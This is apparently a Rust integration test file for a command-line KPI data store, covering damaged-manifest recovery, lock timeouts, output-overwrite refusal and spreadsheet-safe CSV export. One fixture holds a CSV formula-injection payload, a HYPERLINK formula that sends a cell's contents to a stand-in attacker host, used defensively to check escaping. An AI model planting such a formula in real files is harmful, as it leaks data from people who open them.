//! Issue 15 through the binary: a damaged store stops every command with the recovery
//! hint and loses nothing, outputs never overwrite the store, CSV is safe to open in a
//! spreadsheet, and bad input fails with a clear message and exit status.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{cxkpi, init, run, stderr, stdout};

fn ok(output: Output) -> Output {
    assert!(
        output.status.success(),
        "{}\n{}",
        stdout(&output),
        stderr(&output)
    );
    output
}

fn write(ws: &Path, name: &str, text: &str) -> PathBuf {
    let path = ws.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

fn import(ws: &Path, entity: &str, file: &Path) -> Output {
    run(cxkpi(ws).args(["import", entity]).arg(file))
}

fn part_files(ws: &Path) -> Vec<String> {
    let mut files = Vec::new();
    for dir in std::fs::read_dir(ws.join("store")).unwrap() {
        let dir = dir.unwrap().path();
        if dir.is_dir() {
            for e in std::fs::read_dir(&dir).unwrap() {
                files.push(e.unwrap().path().display().to_string());
            }
        }
    }
    files.sort();
    files
}

/// Orders O0 to O119, O60 to O119 imported twice with other amounts (so retired files
/// exist), and two customers.
fn workspace_with_orders() -> tempfile::TempDir {
    let ws = init();
    let orders = |first: usize, amount: &str| {
        let mut s = String::from("order_id,customer_id,ordered_at,amount\n");
        for i in first..first + 60 {
            s.push_str(&format!(
                "O{i},C{},2024-03-{:02},{amount}\n",
                i % 2,
                1 + i % 28
            ));
        }
        s
    };
    for (name, text) in [
        ("a.csv", orders(0, "1.00")),
        ("b.csv", orders(60, "2.00")),
        ("c.csv", orders(60, "3.00")),
    ] {
        ok(import(ws.path(), "orders", &write(ws.path(), name, &text)));
    }
    let customers = write(
        ws.path(),
        "customers.csv",
        "customer_id,acquired_at\nC0,2024-01-01\nC1,2024-01-02\n",
    );
    ok(import(ws.path(), "customers", &customers));
    ws
}

/// The fault injection of issue 15: the manifest deleted, truncated and replaced by
/// garbage, each followed by every command that writes (and the reads): none deletes a
/// part file, each fails with the recovery hint; `repair --yes` brings the rows back.
#[test]
fn every_command_on_a_damaged_manifest_fails_with_the_hint_and_deletes_nothing() {
    for damage in ["deleted", "truncated", "garbage"] {
        let ws = workspace_with_orders();
        let w = ws.path();
        let before = stdout(&ok(run(cxkpi(w).args(["export", "orders"]))));
        let manifest = w.join("store/manifest.json");
        let text = std::fs::read_to_string(&manifest).unwrap();
        match damage {
            "deleted" => std::fs::remove_file(&manifest).unwrap(),
            "truncated" => std::fs::write(&manifest, &text[..text.len() / 3]).unwrap(),
            _ => std::fs::write(&manifest, "{\"garbage\": [1, 2").unwrap(),
        }
        let files = part_files(w);
        let more = write(
            w,
            "more.csv",
            "order_id,customer_id,ordered_at,amount\nX1,C0,2024-03-01,5\n",
        );
        let commands: Vec<Vec<&str>> = vec![
            vec!["import", "spend", "/dev/null"],
            vec!["import", "orders", more.to_str().unwrap()],
            vec!["compact"],
            vec!["tables"],
            vec!["export", "orders"],
            vec!["kpi", "aov"],
            vec!["report"],
        ];
        for args in &commands {
            let output = run(cxkpi(w).args(args));
            assert_eq!(output.status.code(), Some(1), "{damage} {args:?}");
            let message = stderr(&output);
            assert!(
                message.contains("manifest.json")
                    && message.contains("cxkpi doctor")
                    && message.contains("cxkpi repair"),
                "{damage} {args:?}: {message}"
            );
            assert_eq!(part_files(w), files, "{damage} {args:?} deleted a file");
        }
        assert_eq!(run(cxkpi(w).arg("doctor")).status.code(), Some(1));
        // Without a terminal and without --yes, repair only shows its plan.
        let shown = run(cxkpi(w).arg("repair"));
        assert_eq!(shown.status.code(), Some(1));
        assert!(
            stdout(&shown).contains("rebuilt from the part files"),
            "{}",
            stdout(&shown)
        );
        assert!(stdout(&shown).contains("120 rows"), "{}", stdout(&shown));
        assert_eq!(part_files(w), files);
        ok(run(cxkpi(w).args(["repair", "--yes"])));
        ok(run(cxkpi(w).arg("doctor")));
        let after = stdout(&ok(run(cxkpi(w).args(["export", "orders"]))));
        let sorted = |s: &str| {
            let mut l: Vec<String> = s.lines().map(String::from).collect();
            l.sort();
            l
        };
        assert_eq!(sorted(&after), sorted(&before), "{damage}");
    }
}

#[test]
fn a_lost_part_file_fails_every_read_naming_it() {
    let ws = workspace_with_orders();
    let w = ws.path();
    let manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w.join("store/manifest.json")).unwrap())
            .unwrap();
    let part = manifest["tables"]["orders"]["parts"][0]["file"]
        .as_str()
        .unwrap();
    std::fs::remove_file(w.join("store").join(part)).unwrap();
    let files = part_files(w);
    let more = write(
        w,
        "more.csv",
        "order_id,customer_id,ordered_at,amount\nX1,C0,2024-03-01,5\n",
    );
    for args in [
        vec!["tables"],
        vec!["export", "orders"],
        vec!["kpi", "aov"],
        vec!["import", "orders", more.to_str().unwrap()],
        vec!["compact"],
    ] {
        let output = run(cxkpi(w).args(&args));
        assert_eq!(output.status.code(), Some(1), "{args:?}");
        assert!(
            stderr(&output).contains(part) && stderr(&output).contains("missing"),
            "{args:?}: {}",
            stderr(&output)
        );
        assert_eq!(part_files(w), files, "{args:?}");
    }
}

#[test]
fn exit_status_when_nothing_is_stored_and_when_only_compaction_failed() {
    let ws = init();
    let w = ws.path();
    // Timestamps as epoch integers: every row is rejected.
    let epoch = write(
        w,
        "epoch.csv",
        "order_id,customer_id,ordered_at,amount\nO1,C1,1704067200,1\nO2,C1,1704067201,1\n",
    );
    let output = run(cxkpi(w)
        .args(["import", "orders", "--format", "json"])
        .arg(&epoch));
    assert_eq!(output.status.code(), Some(1));
    let json: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(json["stored"], false);
    assert_eq!(json["rejected"], 2);
    // Binary garbage as NDJSON.
    let garbage = w.join("garbage.ndjson");
    std::fs::write(&garbage, b"\x00\x01\x02\xff\n\x10\x11\n").unwrap();
    assert_eq!(import(w, "orders", &garbage).status.code(), Some(1));

    // A disk that fills during the compaction after the commit: the rows are stored.
    let first = write(
        w,
        "one.csv",
        "order_id,customer_id,ordered_at,amount\nO1,C1,2024-01-01,1\n",
    );
    let second = write(
        w,
        "two.csv",
        "order_id,customer_id,ordered_at,amount\nO2,C1,2024-01-02,2\n",
    );
    ok(import(w, "orders", &first));
    let output = run(cxkpi(w)
        .args(["import", "orders"])
        .arg(&second)
        .env("CXKPI_FAIL_POINT", "compaction-write"));
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("warning: the rows are stored")
            && stderr(&output).contains("No space left on device"),
        "{}",
        stderr(&output)
    );
    let export = stdout(&ok(run(cxkpi(w).args(["export", "orders"]))));
    assert_eq!(export.lines().count(), 3, "{export}");
    let compacted = stdout(&ok(run(cxkpi(w).args(["compact", "--format", "json"]))));
    assert!(compacted.contains("\"parts_after\":1"), "{compacted}");
}

#[test]
fn input_without_line_breaks_is_an_error_not_an_abort() {
    let ws = init();
    for format in ["csv", "ndjson"] {
        let output = run(cxkpi(ws.path()).args([
            "import",
            "customers",
            "/dev/zero",
            "--input-format",
            format,
        ]));
        assert_eq!(output.status.code(), Some(1), "{format}");
        let message = stderr(&output);
        assert!(
            message.contains("/dev/zero")
                && message.contains("line 1")
                && message.contains("64 MiB"),
            "{format}: {message}"
        );
    }
}

#[test]
fn outputs_never_overwrite_the_store_or_the_configuration() {
    let ws = workspace_with_orders();
    let w = ws.path();
    let manifest = std::fs::read(w.join("store/manifest.json")).unwrap();
    let config = std::fs::read(w.join("cxkpi.toml")).unwrap();
    let part = part_files(w)[0].clone();
    let part_bytes = std::fs::read(&part).unwrap();
    for (args, target) in [
        (
            vec!["export", "orders", "-o"],
            w.join("store/manifest.json"),
        ),
        (vec!["export", "orders", "-o"], PathBuf::from(&part)),
        (
            vec!["export", "orders", "-o"],
            w.join("store/orders/new.csv"),
        ),
        (
            vec!["report", "--format", "html", "-o"],
            w.join("cxkpi.toml"),
        ),
    ] {
        let output = run(cxkpi(w).args(&args).arg(&target));
        assert_eq!(output.status.code(), Some(2), "{args:?} {target:?}");
        assert!(
            stderr(&output).contains("refusing to write"),
            "{}",
            stderr(&output)
        );
    }
    assert_eq!(
        std::fs::read(w.join("store/manifest.json")).unwrap(),
        manifest
    );
    assert_eq!(std::fs::read(w.join("cxkpi.toml")).unwrap(), config);
    assert_eq!(std::fs::read(&part).unwrap(), part_bytes);
    assert!(!w.join("store/orders/new.csv").exists());
    // An ordinary output is written whole.
    let out = w.join("orders-export.csv");
    ok(run(cxkpi(w).args(["export", "orders", "-o"]).arg(&out)));
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 121);
}

/// A customer's comment `=HYPERLINK(...)` became a live formula in every CSV cxkpi
/// wrote; now text cells that start a formula get an apostrophe, numbers stay numbers,
/// and importing cxkpi's CSV export gives back the same rows.
#[test]
fn csv_outputs_are_safe_in_a_spreadsheet_and_exports_import_back() {
    let ws = init();
    let w = ws.path();
    let responses = write(
        w,
        "responses.csv",
        "response_id,customer_id,survey,score,responded_at,touchpoint,comment,team\n\
         R1,C1,csat,1,2024-03-01T10:00:00Z,@support,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click for refund\"\")\",-5\n\
         R3,C3,csat,4,2024-03-03T10:00:00Z,web,-2+3,plain\n\
         R4,C4,csat,=1+1,2024-03-04T10:00:00Z,web,bad score,x\n",
    );
    // A stored text that starts with an apostrophe already (NDJSON takes text as is;
    // CSV would read the apostrophe as a spreadsheet's prefix).
    let quoted = write(
        w,
        "responses.ndjson",
        r#"{"response_id":"R2","customer_id":"C2","survey":"csat","score":5,"responded_at":"2024-03-02T10:00:00Z","touchpoint":"+shop","comment":"'=already quoted","team":"+1.5"}"#,
    );
    let output = ok(import(w, "responses", &responses));
    ok(import(w, "responses", &quoted));
    let rejects = stdout(&output)
        .lines()
        .find_map(|l| l.strip_prefix("rejected rows (line, column, reason): "))
        .map(PathBuf::from)
        .unwrap();
    let rejects = std::fs::read_to_string(rejects).unwrap();
    assert!(rejects.contains(",score,'=1+1,"), "{rejects}");

    let export = stdout(&ok(run(cxkpi(w).args(["export", "responses"]))));
    let line = |id: &str| {
        export
            .lines()
            .find(|l| l.starts_with(&format!("{id},")))
            .unwrap()
    };
    let lines = ["", line("R1"), line("R2"), line("R3")];
    assert!(
        lines[1].starts_with(
            "R1,C1,csat,1,2024-03-01T10:00:00Z,'@support,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click for refund\"\")\","
        ) && lines[1].ends_with(",-5"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].contains(",'+shop,''=already quoted,"),
        "{}",
        lines[2]
    );
    assert!(lines[2].ends_with(",+1.5"), "{}", lines[2]);
    assert!(lines[3].contains(",web,'-2+3,"), "{}", lines[3]);

    let by_touchpoint = stdout(&ok(run(cxkpi(w).args([
        "kpi",
        "csat",
        "--from",
        "2024-03-01",
        "--to",
        "2024-04-01",
        "--by",
        "touchpoint",
        "--format",
        "csv",
    ]))));
    assert!(by_touchpoint.contains(",'@support,"), "{by_touchpoint}");
    assert!(by_touchpoint.contains(",'+shop,"), "{by_touchpoint}");

    // Round trip: the CSV export imports back to the same rows.
    let csv = write(w, "export.csv", &export);
    let other = init();
    ok(import(other.path(), "responses", &csv));
    let ndjson = |dir: &Path| {
        stdout(&ok(run(cxkpi(dir).args([
            "export",
            "responses",
            "--format",
            "ndjson",
        ]))))
    };
    assert_eq!(ndjson(other.path()), ndjson(w));
    assert!(ndjson(w).contains("\"comment\":\"'=already quoted\""));
}

#[test]
fn parquet_from_a_fifo_or_process_substitution_is_spooled() {
    let ws = workspace_with_orders();
    let w = ws.path();
    let parquet = w.join("orders.parquet");
    ok(run(cxkpi(w)
        .args(["export", "orders", "--format", "parquet", "-o"])
        .arg(&parquet)));
    let other = init();
    let fifo = w.join("orders.fifo");
    ok(run(Command::new("mkfifo").arg(&fifo)));
    let (from, to) = (parquet.clone(), fifo.clone());
    let feeder = std::thread::spawn(move || {
        let bytes = std::fs::read(from).unwrap();
        std::fs::write(to, bytes).unwrap();
    });
    let output = ok(run(cxkpi(other.path())
        .args(["import", "orders", "--input-format", "parquet"])
        .arg(&fifo)));
    feeder.join().unwrap();
    assert!(stdout(&output).contains("new 120"), "{}", stdout(&output));
    let third = init();
    let script = format!(
        "'{}' --workspace '{}' import orders --input-format parquet <(cat '{}')",
        env!("CARGO_BIN_EXE_cxkpi"),
        third.path().display(),
        parquet.display()
    );
    let output = ok(run(Command::new("bash").args(["-c", &script])));
    assert!(stdout(&output).contains("new 120"), "{}", stdout(&output));
}

#[test]
fn a_writer_says_who_holds_the_lock_and_gives_up_after_the_timeout() {
    let ws = init();
    let w = ws.path();
    let config = std::fs::read_to_string(w.join("cxkpi.toml")).unwrap();
    std::fs::write(
        w.join("cxkpi.toml"),
        config.replace("lock_timeout = \"10m\"", "lock_timeout = \"2s\""),
    )
    .unwrap();
    let lock = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(w.join("store/LOCK"))
        .unwrap();
    lock.lock().unwrap();
    std::fs::write(w.join("store/LOCK"), "4242").unwrap();
    let file = write(
        w,
        "o.csv",
        "order_id,customer_id,ordered_at,amount\nO1,C1,2024-01-01,1\n",
    );
    let output = import(w, "orders", &file);
    assert_eq!(output.status.code(), Some(1));
    let message = stderr(&output);
    assert!(
        message.contains("waiting for the store lock held by pid 4242")
            && message.contains("gave up after waiting 2 s"),
        "{message}"
    );
    drop(lock);
    ok(import(w, "orders", &file));
}

#[test]
fn io_errors_are_printed_once_and_a_missing_store_is_said() {
    let ws = init();
    let w = ws.path();
    let dir = w.join("folder.csv");
    std::fs::create_dir(&dir).unwrap();
    let output = import(w, "orders", &dir);
    assert_eq!(output.status.code(), Some(1));
    let message = stderr(&output);
    assert_eq!(message.matches("Is a directory").count(), 1, "{message}");

    std::fs::remove_dir_all(w.join("store")).unwrap();
    let output = run(cxkpi(w).arg("tables"));
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("store directory") && stderr(&output).contains("missing"),
        "{}",
        stderr(&output)
    );
    assert!(!w.join("store").exists());
}
